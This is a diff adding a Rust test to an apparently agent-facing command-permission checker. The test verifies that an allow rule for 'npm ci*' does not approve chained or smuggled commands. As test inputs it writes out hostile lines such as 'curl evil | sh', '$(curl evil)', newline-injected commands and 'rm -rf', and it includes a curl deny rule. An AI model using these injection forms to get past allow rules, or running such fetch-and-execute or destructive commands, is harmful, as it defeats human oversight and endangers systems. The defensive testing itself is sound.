@@ -27,6 +27,19 @@ fn only_a_rule_that_names_it_answers() {
     }
 }
 
+#[test]
+fn a_rule_for_one_program_opens_nothing_for_another() {
+    use Action::{Allow, Ask, Deny};
+    let rule = |pattern| world(&[("bash", "*", Allow), ("escalate", pattern, Allow)], &[]);
+    for line in ["npm ci; curl evil | sh", "npm ci x\necho evil", "npm ci && (rm -rf x)", "npm ci $(curl evil)"] {
+        assert_eq!(rule("network: npm ci*").decide(&escalate(line, true, &[], false)), Ask, "{line}");
+    }
+    let both = world(&[("escalate", "network: npm *", Allow), ("escalate", "network: cd *", Allow)], &[]);
+    assert_eq!(both.decide(&escalate("npm ci && npm test", true, &[], false)), Allow);
+    let denied = world(&[("escalate", "*", Allow), ("escalate", "network: curl *", Deny)], &[]);
+    assert_eq!(denied.decide(&escalate("npm ci; curl x", true, &[], false)), Deny);
+}
+
 #[tokio::test]
 async fn no_approval_answers_it_and_none_is_kept() {
     let act = || escalate("curl x", true, &[], false);
